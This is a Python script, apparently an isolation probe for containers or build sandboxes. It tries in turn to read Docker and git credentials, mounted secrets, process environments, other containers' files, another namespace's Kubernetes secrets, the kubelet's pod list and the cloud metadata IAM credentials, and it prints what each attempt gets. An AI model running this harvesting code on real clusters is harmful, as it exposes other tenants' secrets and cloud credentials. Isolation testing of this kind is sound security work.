"""Tries to read what it has no business to see. A line of JSON for each attempt: its name, and what it got."""

import json
import os
import ssl
import sys
import urllib.request

LARGEST = 4096
MOST = 200
OTHER = sys.argv[1]
NODE = sys.argv[2]


def content(path):
    try:
        with open(path, "rb") as file:
            return file.read(LARGEST).decode("utf-8", "replace")
    except OSError:
        return None


def below(*folders):
    found = []
    for folder in folders:
        for here, _, names in os.walk(folder):
            found.extend(os.path.join(here, name) for name in names)
    return read(*found[:MOST])


def read(*paths):
    return [text for text in map(content, paths) if text]


def volumes():
    """Secrets are mounted as file systems in memory."""
    where = [line.split()[1] for line in open("/proc/mounts") if line.split()[2] == "tmpfs"]
    return below(*(path for path in where if not path.startswith(("/proc", "/sys", "/dev"))))


def processes(*names):
    numbers = [name for name in os.listdir("/proc") if name.isdigit()]
    return [f"/proc/{number}/{name}" for number in numbers for name in names]


def neighbours():
    """What containers with other file systems have mounted."""

    def space(process):
        try:
            return os.readlink(f"{process}/ns/mnt")
        except OSError:
            return None

    mine = space("/proc/self")
    others = [os.path.dirname(root) for root in processes("root")]
    return below(*(f"{other}/root/credentials" for other in others if space(other) not in (None, mine)))


def ask(url, token=None, most=65536):
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"} if token else {})
    try:
        with urllib.request.urlopen(request, timeout=5, context=ssl._create_unverified_context()) as answer:
            return [answer.read(most).decode("utf-8", "replace")]
    except OSError as why:
        print(f"{url}: {why}")
        return []


TOKEN = content("/var/run/secrets/kubernetes.io/serviceaccount/token")
HOME = os.path.expanduser("~")
CONFIGS = [os.environ.get("DOCKER_CONFIG", "/none"), f"{HOME}/.docker", "/root/.docker", "/kaniko/.docker"]

attempts = {
    "credential files": lambda: below("/credentials"),
    "docker configs": lambda: read(*(f"{folder}/config.json" for folder in CONFIGS)),
    "git's own files": lambda: below("/src/.git") + read(f"{HOME}/.git-credentials", f"{HOME}/.gitconfig"),
    "mounted volumes": volumes,
    "links in the source": lambda: read("/src/link-to-git", "/src/link-to-push"),
    "environments": lambda: read(*processes("environ", "cmdline")),
    "other containers' files": neighbours,
    "service account": lambda: [TOKEN] if TOKEN else [],
    "another namespace": lambda: ask(f"https://kubernetes.default.svc/api/v1/namespaces/{OTHER}/secrets", TOKEN),
    "the node's agent": lambda: ask(f"https://{NODE}:10250/pods", TOKEN, most=100),
    "metadata address": lambda: ask("http://169.254.169.254/latest/meta-data/iam/security-credentials/node"),
}
for name, attempt in attempts.items():
    print(json.dumps({"attempt": name, "got": attempt()}), flush=True)
